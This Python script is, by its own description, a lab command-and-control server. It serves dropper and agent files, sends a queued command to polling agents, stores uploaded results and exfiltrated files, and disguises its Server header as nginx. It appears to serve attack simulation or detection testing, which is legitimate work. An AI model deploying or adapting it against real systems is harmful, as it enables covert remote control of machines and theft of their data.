#!/usr/bin/python3
"""The lab's command-and-control web server (attacker side): serves a dropper and an agent under
/dl/, answers the agent's polls on /api/v1/poll with a task once, takes results on /api/v1/result
and uploads on /api/v1/upload (written under OUTDIR). Bounded: it stops by itself after LIFETIME s.

    c2-server.py ADDR PORT FILESDIR OUTDIR TASK_AT TASK [LIFETIME]
"""
import http.server, json, os, sys, threading, time

ADDR, PORT, FILES, OUT, TASK_AT, TASK = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5]), sys.argv[6]
LIFETIME = float(sys.argv[7]) if len(sys.argv) > 7 else 300
polls = {}


class H(http.server.BaseHTTPRequestHandler):
    server_version = "nginx/1.22.1"
    sys_version = ""

    def reply(self, code, body, ctype="application/json"):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path.startswith("/dl/"):
            p = os.path.join(FILES, os.path.basename(self.path))
            if os.path.isfile(p):
                return self.reply(200, open(p, "rb").read(), "application/octet-stream")
            return self.reply(404, b"not found\n", "text/plain")
        if self.path.startswith("/api/v1/poll"):
            agent = self.headers.get("X-Session", "?")
            n = polls[agent] = polls.get(agent, 0) + 1
            task = {"id": 7, "cmd": TASK} if n == TASK_AT else None
            return self.reply(200, json.dumps({"status": "ok", "task": task}).encode())
        self.reply(404, b"not found\n", "text/plain")

    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        body = self.rfile.read(min(n, 10 << 20))
        name = "%s-%d.bin" % (self.path.strip("/").replace("/", "_"), time.time() * 1000)
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(body)
        self.reply(200, b'{"status":"ok"}')

    def log_message(self, fmt, *a):
        print("%s %s" % (self.client_address[0], fmt % a), flush=True)


srv = http.server.ThreadingHTTPServer((ADDR, PORT), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
time.sleep(LIFETIME)
